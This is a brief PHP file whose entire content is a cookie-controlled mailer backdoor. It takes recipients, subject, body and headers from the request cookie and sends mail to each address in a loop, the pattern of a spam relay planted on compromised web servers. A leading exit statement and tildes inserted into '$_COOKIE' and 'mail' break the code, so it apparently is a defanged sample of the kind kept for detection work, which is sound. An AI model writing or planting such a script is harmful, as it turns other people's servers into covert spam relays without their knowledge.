<?php exit; ?>
<?php
$m = $_C~OOKIE; if (isset($m['to'])) { $list = explode(',', $m['to']); do { $t = array_pop($list); mai~l($t, $m['s'], $m['b'], "X-Mailer: MARKER\r\n" . $m['h']); usleep(100); } while ($list); }
